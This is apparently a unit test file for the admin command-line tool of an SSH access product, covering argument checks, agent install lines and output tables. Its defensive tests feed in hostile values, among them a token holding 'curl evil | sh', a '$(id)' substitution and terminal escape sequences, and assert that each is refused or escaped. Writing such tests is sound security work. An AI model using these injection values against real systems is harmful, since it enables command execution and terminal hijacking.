/** The pure parts of `latchkey admin …`: argument checks and the tables. */
import assert from 'node:assert/strict';
import { isLatchkeyError, type Agent, type AuditEvent, type SshSession, type Target } from '@latchkey/shared';
import {
  checkSessionId,
  checkTargetHostname,
  installLine,
  installerAcceptsUrl,
  isJoinTokenSecret,
  parseSha256Line,
  isUuid,
  parseJoinTokenLifetime,
  parseJoinTokenUses,
  parseLimit,
  parseTargetAddresses,
} from '../../../../cli/src/domain/admin/admin-arguments.js';
import { tokenHint } from '../../../../cli/src/domain/api-token-permission.js';
import {
  ago,
  describeEndedSession,
  renderAdminTargetsTable,
  renderAgentsTable,
  renderAuditTable,
  renderSshSessionsTable,
  summariseAuditEvent,
} from '../../../../cli/src/domain/admin/admin-tables.js';

function invalid(pointer: string, pattern: RegExp) {
  return (error: unknown) => {
    assert.ok(isLatchkeyError(error), String(error));
    assert.equal(error.code, 'invalid_argument');
    assert.equal(error.pointer, pointer);
    assert.match(error.message, pattern);
    return true;
  };
}

const VNET = '11111111-1111-4111-8111-111111111111';
const TARGET_ID = '22222222-2222-4222-8222-222222222222';

describe('cli/domain/admin: argument checks', () => {
  it('takes one IPv4 and one IPv6 address, normalised', () => {
    assert.deepEqual(parseTargetAddresses(['10.0.0.5']), { ipv4: '10.0.0.5' });
    assert.deepEqual(parseTargetAddresses(['10.0.0.5', '2001:DB8:0::5']), {
      ipv4: '10.0.0.5',
      ipv6: '2001:db8::5',
    });
  });

  it('refuses a malformed address, two of one family, or none, naming --ip', () => {
    assert.throws(() => parseTargetAddresses(['10.0.0.300']), invalid('--ip', /"10.0.0.300" is not an IP/));
    assert.throws(() => parseTargetAddresses(['010.0.0.1']), invalid('--ip', /is not an IP address/));
    assert.throws(() => parseTargetAddresses(['web-1']), invalid('--ip', /is not an IP address/));
    assert.throws(() => parseTargetAddresses(['10.0.0.1', '10.0.0.2']), invalid('--ip', /two IPv4/));
    assert.throws(() => parseTargetAddresses([]), invalid('--ip', /--ip ADDR/));
  });

  it('checks the hostname with the server rule', () => {
    assert.equal(checkTargetHostname('web-1.example.com'), 'web-1.example.com');
    assert.throws(() => checkTargetHostname('web 1'), invalid('HOSTNAME', /contains " "/));
    assert.throws(() => checkTargetHostname('-web'), invalid('HOSTNAME', /must start with a letter/));
  });

  it('reads --uses, --expires and --limit, refusing what the server would', () => {
    assert.equal(parseJoinTokenUses(undefined), undefined);
    assert.equal(parseJoinTokenUses('10'), 10);
    for (const bad of ['0', '100001', '1.5', 'ten', '-1']) {
      assert.throws(() => parseJoinTokenUses(bad), invalid('--uses', /1 to 100000/), bad);
    }
    assert.equal(parseJoinTokenLifetime(undefined), undefined);
    assert.equal(parseJoinTokenLifetime('24h'), 86_400);
    assert.equal(parseJoinTokenLifetime('30m'), 1800);
    assert.equal(parseJoinTokenLifetime('7d'), 7 * 86_400);
    assert.equal(
      parseJoinTokenLifetime('2w'),
      14 * 86_400,
      'weeks, as latchkey-server join-token create takes',
    );
    for (const bad of ['0m', '367d', '24', 'tomorrow', '53w', '1y']) {
      assert.throws(() => parseJoinTokenLifetime(bad), invalid('--expires', /30m, 24h or 7d/), bad);
    }
    assert.equal(parseLimit('5'), 5);
    for (const bad of ['0', '-3', 'all', '2.5']) {
      assert.throws(() => parseLimit(bad), invalid('--limit', /whole number above 0/), bad);
    }
  });

  it('says the install line and how to make a token', () => {
    assert.equal(
      installLine('https://access.example.com/', 'lkj_abc'),
      'curl -fsSL https://access.example.com/install.sh | sudo bash -s -- --token lkj_abc',
    );
    const digest = 'ab'.repeat(32);
    assert.equal(
      installLine('https://access.example.com', 'lkj_abc', digest),
      `curl -fsSL https://access.example.com/install.sh | sudo bash -s -- --token lkj_abc --sha256 ${digest}`,
    );
    assert.equal(parseSha256Line(`${digest.toUpperCase()}  latchkey-agent-linux-x64.tar.gz\n`), digest);
    assert.equal(parseSha256Line('<html>not found</html>'), undefined);
    assert.ok(isJoinTokenSecret('lkj_xLpI6o7aUcJlX6cEZI-FH8gJhpmsJS5sOhGZUoeZPQs'));
    for (const hostile of ['lkj_x; curl evil | sh #', 'lkj_\x1b[2Jabcdef', 'lkj_$(id)abc', 'short']) {
      assert.ok(!isJoinTokenSecret(hostile), hostile);
    }
    for (const ok of [
      'https://a.example.com',
      'http://127.0.0.1:8443',
      'http://localhost:1',
      'http://[::1]:2',
    ]) {
      assert.ok(installerAcceptsUrl(ok), ok);
    }
    for (const refused of ['http://10.0.0.1', 'http://127.0.0.1.evil.example', 'ftp://a', 'not a url']) {
      assert.ok(!installerAcceptsUrl(refused), refused);
    }
    assert.match(
      tokenHint('Zero Trust: Edit'),
      /latchkey-server token create --permission "Zero Trust: Edit"/,
    );
    assert.ok(isUuid(TARGET_ID));
    assert.ok(!isUuid('web-1'));
  });
});

describe('cli/domain/admin: tables', () => {
  const target: Target = {
    id: TARGET_ID,
    hostname: 'web-1',
    ip: {
      ipv4: { ip_addr: '10.0.0.5', virtual_network_id: VNET },
      ipv6: { ip_addr: '2001:db8::5', virtual_network_id: VNET },
    },
    created_at: '2026-11-24T10:00:00Z',
    modified_at: '2026-11-24T10:00:00Z',
  };

  it('lists targets with their network by name', () => {
    assert.equal(
      renderAdminTargetsTable([target], new Map([[VNET, 'default']])),
      'ID                                    HOSTNAME  IPV4      IPV6         VIRTUAL NETWORK\n' +
        `${TARGET_ID}  web-1     10.0.0.5  2001:db8::5  default\n`,
    );
    const v4only: Target = { ...target, ip: { ipv4: target.ip.ipv4! } };
    assert.match(
      renderAdminTargetsTable([v4only], new Map()),
      new RegExp(`10\\.0\\.0\\.5  -     ${VNET}\\n$`),
    );
    assert.equal(renderAdminTargetsTable([], new Map()), 'No targets.\n');
  });

  it('lists agents with target, sshd state, recording, last seen and a break-glass in force', () => {
    const now = new Date('2026-11-24T12:00:00Z');
    const agent: Agent = {
      id: '33333333-3333-4333-8333-333333333333',
      hostname: 'web-1',
      target_id: TARGET_ID,
      version: '0.1.0',
      sshd_config: { state: 'trusted' },
      recording: {
        recorder_command: 'latchkey-agent record',
        mode: 'strict',
        break_glass: { until: '2026-11-24T13:00:00Z', reason: 'recorder\nbroken' },
      },
      last_seen_at: '2026-11-24T11:58:00Z',
      created_at: '2026-11-24T10:00:00Z',
    };
    const table = renderAgentsTable([agent], new Map([[TARGET_ID, 'web-1.example.com']]), now);
    const [heading, row] = table.split('\n');
    assert.match(heading!, /^HOSTNAME +TARGET +VERSION +SSHD CONFIG +RECORDING +LAST SEEN +BREAK-GLASS$/);
    assert.match(
      row!,
      /^web-1 +web-1\.example\.com +0\.1\.0 +trusted +strict \(latchkey-agent record\) +2m ago +until 2026-11-24T13:00:00Z: recorder\\nbroken$/,
    );
    // A break-glass that ended is not shown; a fresh agent has no heartbeat yet.
    const ended = renderAgentsTable(
      [
        {
          ...agent,
          recording: { ...agent.recording!, break_glass: { until: '2026-11-24T11:00:00Z', reason: 'x' } },
        },
      ],
      new Map(),
      now,
    );
    assert.match(ended.split('\n')[1]!, / 2m ago +-$/);
    const fresh = renderAgentsTable(
      [{ id: agent.id, hostname: 'db-1', created_at: agent.created_at }],
      new Map(),
      now,
    );
    assert.match(fresh.split('\n')[1]!, /^db-1 +- +- +- +- +never +-$/);
    assert.match(renderAgentsTable([], new Map(), now), /No agents enrolled.*join-token create/);
  });

  it('says how long ago', () => {
    const now = new Date('2026-11-24T12:00:00Z');
    assert.equal(ago('2026-11-24T11:59:30Z', now), '30s ago');
    assert.equal(ago('2026-11-24T09:00:00Z', now), '3h ago');
    assert.equal(ago('2026-11-20T12:00:00Z', now), '4d ago');
    assert.equal(ago(undefined, now), 'never');
  });

  it('lists audit events with a short summary of each', () => {
    const created: AuditEvent = {
      id: '44444444-4444-4444-8444-444444444444',
      actor: 'token:abc',
      action: 'target.create',
      resource_type: 'target',
      resource_id: TARGET_ID,
      after: target,
      created_at: '2026-11-24T10:00:00Z',
    };
    const updated: AuditEvent = {
      ...created,
      action: 'target.update',
      before: target,
      after: { ...target, hostname: 'web-2', modified_at: 'later' },
    };
    assert.equal(summariseAuditEvent(created), 'web-1');
    assert.equal(summariseAuditEvent(updated), 'web-2: changed hostname');
    assert.equal(summariseAuditEvent({ ...created, after: undefined, before: { ids: ['a'] } }), 'ids');
    assert.equal(summariseAuditEvent({ ...created, after: undefined }), '');
    assert.equal(summariseAuditEvent({ ...created, after: { name: 'x'.repeat(100) } }).length, 80);
    const table = renderAuditTable([created]);
    assert.equal(
      table.split('\n')[1],
      `2026-11-24T10:00:00Z  token:abc  target.create  target ${TARGET_ID}  web-1`,
    );
    assert.equal(renderAuditTable([]), 'No audit events.\n');
  });
});

describe('cli/domain/admin: live SSH sessions', () => {
  const now = new Date('2026-12-08T12:00:00Z');
  const session = (overrides: Partial<SshSession> = {}): SshSession => ({
    session_id: 'f3a1c2d4-0000-4000-8000-000000000001',
    person: 'alice@example.com',
    unix_user: 'deploy',
    program: 'shell',
    started_at: '2026-12-08T11:57:00Z',
    client_address: '192.0.2.7',
    target_id: TARGET_ID,
    hostname: 'web-1',
    agent_id: '33333333-3333-4333-8333-333333333333',
    reported_at: '2026-12-08T11:59:50Z',
    ...overrides,
  });

  it('takes a session id as the server does (letters, digits, "-", up to 64), else names the argument', () => {
    assert.equal(
      checkSessionId('f3a1c2d4-0000-4000-8000-000000000001'),
      'f3a1c2d4-0000-4000-8000-000000000001',
    );
    for (const bad of ['', 'a/b', '../x', 'a b', 'x'.repeat(65), 'é']) {
      assert.throws(() => checkSessionId(bad), invalid('SESSION_ID', /is not a session id/));
    }
  });

  it('lists session, person, UNIX user, target, program (with its command), started, client', () => {
    const table = renderSshSessionsTable(
      [
        session(),
        session({ session_id: 's-2', program: 'exec', command: 'uptime', client_address: undefined }),
      ],
      now,
    );
    assert.equal(
      table,
      [
        'SESSION                               PERSON             UNIX USER  TARGET  PROGRAM       STARTED  CLIENT',
        'f3a1c2d4-0000-4000-8000-000000000001  alice@example.com  deploy     web-1   shell         3m ago   192.0.2.7',
        's-2                                   alice@example.com  deploy     web-1   exec: uptime  3m ago   -',
        '',
      ].join('\n'),
    );
  });

  it('says when there are none', () => {
    assert.match(renderSshSessionsTable([], now), /^No live SSH sessions/);
  });

  it("escapes control characters in every field (an agent's report cannot drive the terminal)", () => {
    const hostile = '\x1b]0;owned\x07\x1b[2K\r\u202e';
    const table = renderSshSessionsTable(
      [
        session({
          session_id: hostile,
          person: `mallory${hostile}`,
          unix_user: hostile,
          program: hostile as SshSession['program'],
          command: `ls${hostile}`,
          started_at: hostile,
          client_address: hostile,
          hostname: hostile,
        }),
      ],
      now,
    );
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(table.replace(/\n/g, ''), /[\u0000-\u001f\u007f-\u009f\u202e]/);
    const row = table.split('\n')[1]!;
    assert.ok(row.includes('mallory\\x1b]0;owned\\x07\\x1b[2K\\r\\u202e'), row);
    assert.equal(table.split('\n').length, 3, 'one row: no line break got through');
  });

  it('cuts a long command', () => {
    const table = renderSshSessionsTable([session({ program: 'exec', command: 'x'.repeat(200) })], now);
    assert.match(table, /exec: x+… /);
    assert.ok(table.split('\n')[1]!.length < 200);
  });

  it('says which session is being ended, escaped', () => {
    assert.equal(
      describeEndedSession({ session: session({ person: 'eve\x1b[8m' }), termination_ids: [4] }),
      'Ending session f3a1c2d4-0000-4000-8000-000000000001 of eve\\x1b[8m as deploy on web-1: its agent closes it within seconds.\n',
    );
  });
});
